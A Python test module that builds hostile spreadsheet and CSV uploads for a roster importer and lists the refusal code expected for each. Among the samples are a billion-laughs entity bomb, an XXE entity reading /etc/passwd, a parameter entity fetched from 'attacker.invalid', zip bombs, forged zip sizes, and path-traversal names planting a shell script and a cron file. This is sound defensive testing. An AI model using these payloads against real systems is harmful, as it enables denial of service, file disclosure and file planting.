"""Hostile roster files, generated (none is stored): each one with the problem code it must be refused with.

Every file is small to send (at most a few MB, except the 49 MB single line) and built to make a careless parser
allocate far more: far-corner cells, declared dimensions, zip bombs, entity expansion, endless lines, …
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.roster.import_.cfb import cfb_bytes, encrypted_xlsx
from tests.roster.import_.people import HEADERS, people, xls_bytes, xlsx_bytes

HEADER_CSV = ",".join(HEADERS) + "\r\n"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@dataclass(frozen=True)
class Hostile:
    name: str  # the upload's file name (some lie about the format, some try path traversal)
    build: Callable[[], bytes]
    codes: tuple[str, ...]  # the problem codes it may be refused with


def workbook(sheet_xml: str | bytes, *, shared: str | bytes | None = None,
             extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal .xlsx with one sheet whose XML is given as written."""
    rels = ('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="xml" ContentType="application/xml"/></Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="http://schemas.'
                   'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="名单" sheetId="1" '
                   'r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                   f'openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", shared)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buffer.getvalue()


def _header_cells(row: int = 1) -> str:
    cells = "".join(f'<c r="{chr(65 + i)}{row}" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(HEADERS))
    return f'<row r="{row}">{cells}</row>'


def sheet(rows: str, *, dimension: str | None = None, prolog: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'<?xml version="1.0"?>{prolog}<worksheet xmlns="{MAIN}">{dim}<sheetData>{rows}</sheetData></worksheet>'


def far_cell(ref: str) -> bytes:
    row = "".join(ch for ch in ref if ch.isdigit())
    return workbook(sheet(_header_cells() + f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>'))


def implied_columns() -> bytes:
    """Cells without `r`: their position is implied by counting, so 400 of them reach column 400."""
    return workbook(sheet(_header_cells() + "<row>" + "<c><v>1</v></c>" * 400 + "</row>"))


def billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    shared = (f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="{MAIN}" count="1" uniqueCount="1">'
              "<si><t>&a9;</t></si></sst>")
    return workbook(sheet(_header_cells() + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'), shared=shared)


def external_entity() -> bytes:
    prolog = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return workbook(sheet(_header_cells() + '<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>',
                          prolog=prolog))


def parameter_entity_split() -> bytes:
    """The DOCTYPE straddles the 1 MiB chunks the scanner reads."""
    pad = " " * (2**20 - len('<?xml version="1.0"?>') - 4)
    prolog = pad + '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>'
    return workbook(sheet(_header_cells(), prolog=prolog))


def zip_bomb_ratio() -> bytes:
    return workbook(sheet(_header_cells()), extra={"xl/media/padding.bin": bytes(200 * 2**20)})


def zip_bomb_members() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        for i in range(10_001):
            z.writestr(f"xl/m/{i}", b"")
    return buffer.getvalue()


def zip_member_lies() -> bytes:
    """A member that declares 10 bytes but expands to 50 MB: the CRC/size check stops it while expanding."""
    data = bytearray(workbook(sheet(_header_cells()), extra={"xl/media/a.bin": bytes(50 * 2**20)}))
    index = data.rfind(b"xl/media/a.bin")  # the central directory entry: uncompressed size at name - 46 + 24
    struct.pack_into("<I", data, index - 46 + 24, 10)
    local = data.find(b"xl/media/a.bin")
    struct.pack_into("<I", data, local - 30 + 22, 10)
    return bytes(data)


def shared_strings_flood() -> bytes:
    shared = f'<?xml version="1.0"?><sst xmlns="{MAIN}">' + "<si/>" * 3_100_000 + "</sst>"
    return workbook(sheet(_header_cells()), shared=shared)


def endless_tag() -> bytes:
    return workbook(sheet(_header_cells() + '<row r="2"><c r="A2" x="' + "y" * 200_000))


def utf16_sheet_xml() -> bytes:
    return workbook(sheet(_header_cells()).replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                    .encode("utf-16"))


def traversal_members() -> bytes:
    """Member names that would escape an extraction folder; the sheet also reaches XFD1048576."""
    return workbook(sheet(_header_cells() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
                    extra={"../../../../tmp/tucai-pwned.sh": b"#!/bin/sh\n", "/etc/cron.d/tucai": b"* * * * * x"})


def xls_far_corner() -> bytes:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("名单")
    for j, h in enumerate(HEADERS):
        ws.write(0, j, h)
    ws.write(65535, 255, "x")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xls_lying_dimensions() -> bytes:
    data = bytearray(xls_bytes([p.row("10403") for p in people(2)]))
    record = b"\x00\x02\x0e\x00"  # DIMENSIONS (BIFF8), 14 bytes
    at = data.find(record)
    struct.pack_into("<IIHH", data, at + 4, 0, 65536, 0, 256)
    return bytes(data)


def ole_garbage() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 40


def ole_without_workbook() -> bytes:
    return cfb_bytes({"Garbage": b"\x09\x08" + bytes(200)})


def docx_renamed() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def xlsb_renamed() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
    return buffer.getvalue()


def truncated_xlsx() -> bytes:
    good = xlsx_bytes([p.row("10403") for p in people(3)])
    return good[: len(good) // 2]


def huge_single_line() -> bytes:
    return b"a" * (49 * 2**20)


def huge_quoted_field() -> bytes:
    return (HEADER_CSV + '2023001,"' + "长" * (4 * 2**20)).encode("utf-8")


def blank_lines() -> bytes:
    return (HEADER_CSV + "\r\n" * 300_000).encode("utf-8")


def wide_row() -> bytes:
    return (HEADER_CSV + "x," * 20_000 + "x\r\n").encode("utf-8")


def utf16_with_bom_long_line() -> bytes:
    return ("\t".join(HEADERS) + "\r\n" + "长" * 100_000).encode("utf-16")


def utf16_without_bom_odd() -> bytes:
    return ("\t".join(HEADERS) + "\r\n").encode("utf-16-le") + b"\x4e"


def utf16_without_bom_no_rows() -> bytes:
    return ("\t".join(HEADERS) + "\r\n").encode("utf-16-le")


def nuls() -> bytes:
    return HEADER_CSV.encode() + b"\x00" * 100_000


def only_nuls() -> bytes:
    return b"\x00" * 100_000


def csv_in_gzip() -> bytes:
    return gzip.compress((HEADER_CSV * 10).encode())


def html_as_xls() -> bytes:
    return b"<html><body><table><tr><td>" + "学号".encode() + b"</td></tr></table></body></html>"


def dbf_lying_count() -> bytes:
    fields = b"XH".ljust(11, b"\x00") + b"C" + bytes(4) + bytes([10, 0]) + bytes(14)
    header_len = 32 + len(fields) + 1
    header = struct.pack("<B3sIHH20s", 0x03, b"\x7e\x01\x01", 10_000_000, header_len, 11, bytes(20))
    return header + fields + b"\x0d" + b" 2023000001" + b"\x1a"


BIG = ("file_sheet_too_large",)
CORPUS: list[Hostile] = [
    Hostile("far-corner-XFD1048576.xlsx", lambda: far_cell("XFD1048576"), BIG),
    Hostile("far-corner-ZZ20000.xlsx", lambda: far_cell("ZZ20000"), BIG),
    Hostile("far-row-A300000.xlsx", lambda: far_cell("A300000"), BIG),
    Hostile("far-column-IW1.xlsx", lambda: far_cell("IW2"), BIG),
    Hostile("declared-dimension.xlsx", lambda: workbook(sheet(_header_cells(), dimension="A1:XFD1048576")), BIG),
    Hostile("implied-columns.xlsx", implied_columns, BIG),
    Hostile("row-number-overflow.xlsx", lambda: workbook(sheet(_header_cells() + '<row r="99999999999999"/>')),
            BIG),
    Hostile("billion-laughs.xlsx", billion_laughs, ("file_xml_entities",)),
    Hostile("external-entity.xlsx", external_entity, ("file_xml_entities",)),
    Hostile("parameter-entity-split.xlsx", parameter_entity_split, ("file_xml_entities",)),
    Hostile("zip-bomb-ratio.xlsx", zip_bomb_ratio, ("file_zip_bomb",)),
    Hostile("zip-bomb-members.xlsx", zip_bomb_members, ("file_zip_bomb",)),
    Hostile("zip-member-lies.xlsx", zip_member_lies, ("file_corrupt", "file_truncated")),
    Hostile("shared-strings-flood.xlsx", shared_strings_flood, BIG),
    Hostile("endless-tag.xlsx", endless_tag, ("file_corrupt",)),
    Hostile("utf16-sheet-xml.xlsx", utf16_sheet_xml, ("file_corrupt",)),
    Hostile("../../../../etc/passwd.xlsx", traversal_members, BIG),
    Hostile("..\\..\\windows\\system32\\far.xls", xls_far_corner, BIG),
    Hostile("xls-lying-dimensions.xls", xls_lying_dimensions, BIG),
    Hostile("ole-garbage.xls", ole_garbage, ("file_corrupt", "file_truncated")),
    Hostile("ole-without-workbook.xls", ole_without_workbook, ("file_not_spreadsheet",)),
    Hostile("encrypted.xlsx", encrypted_xlsx, ("file_encrypted",)),
    Hostile("word-renamed.xlsx", docx_renamed, ("file_not_spreadsheet",)),
    Hostile("xlsb-renamed.xlsx", xlsb_renamed, ("file_format_unsupported",)),
    Hostile("pdf-renamed.xlsx", lambda: b"%PDF-1.7\n" + bytes(1000), ("file_not_spreadsheet",)),
    Hostile("gzip-renamed.csv", csv_in_gzip, ("file_not_spreadsheet",)),
    Hostile("html-renamed.xls", html_as_xls, ("file_not_spreadsheet",)),
    Hostile("truncated.xlsx", truncated_xlsx, ("file_truncated",)),
    Hostile("single-line-49MB.csv", huge_single_line, ("file_line_too_long",)),
    Hostile("quoted-field-4M.csv", huge_quoted_field, ("file_line_too_long", "file_corrupt")),
    Hostile("blank-lines.csv", blank_lines, BIG),
    Hostile("wide-row.csv", wide_row, BIG),
    Hostile("utf16-bom-long-line.csv", utf16_with_bom_long_line, ("file_line_too_long",)),
    Hostile("utf16-no-bom-odd-length.csv", utf16_without_bom_odd, ("file_encoding_unknown",)),
    Hostile("utf16-no-bom-no-rows.txt", utf16_without_bom_no_rows, ("file_empty",)),
    Hostile("nuls.csv", nuls, ("file_not_spreadsheet",)),
    Hostile("only-nuls.csv", only_nuls, ("file_empty",)),
    Hostile("dbf-lying-count.dbf", dbf_lying_count, ("file_truncated",)),
]
